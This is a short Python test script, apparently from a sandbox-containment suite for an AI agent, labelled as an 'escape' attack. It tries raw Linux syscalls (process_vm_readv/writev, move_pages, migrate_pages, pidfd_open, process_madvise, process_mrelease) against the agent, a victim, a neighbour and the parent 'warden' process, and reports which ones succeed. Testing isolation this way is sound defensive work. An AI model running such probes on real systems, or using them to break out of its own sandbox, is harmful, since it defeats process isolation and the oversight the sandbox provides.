# /// attack
# kind = "escape"
# aim = "reach the memory of others by process_vm, process_madvise, process_mrelease, move_pages"
# outcome = "exited"
# ///
import ctypes
import json
import os

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
readv, writev, migrate, move = {"x86_64": (310, 311, 256, 279), "aarch64": (270, 271, 238, 239)}[os.uname().machine]
buffer = ctypes.create_string_buffer(4096)
own = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
# After a fork the same address is mapped in the agent, the warden and the neighbour.
theirs = (ctypes.c_ulong * 2)(id(os), 64)
page = (ctypes.c_ulong * 1)(id(os) & ~4095)
for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
    for call in (readv, writev):
        if libc.syscall(call, pid, own, 1, theirs, 1, 0) > 0:
            print("managed to reach the memory of", pid)
    if libc.syscall(move, pid, 1, page, None, (ctypes.c_int * 1)(), 0) == 0:
        print("managed move_pages", pid)
    if libc.syscall(migrate, pid, 1, (ctypes.c_ulong * 1)(1), (ctypes.c_ulong * 1)(1)) == 0:
        print("managed migrate_pages", pid)
    number = libc.syscall(434, pid, 0)
    if number >= 0:
        print("managed a pidfd of", pid)
        if libc.syscall(440, number, theirs, 1, 20, 0) > 0:  # process_madvise, MADV_COLD
            print("managed process_madvise", pid)
        if libc.syscall(448, number, 0) == 0:  # process_mrelease
            print("managed process_mrelease", pid)
print("contained")
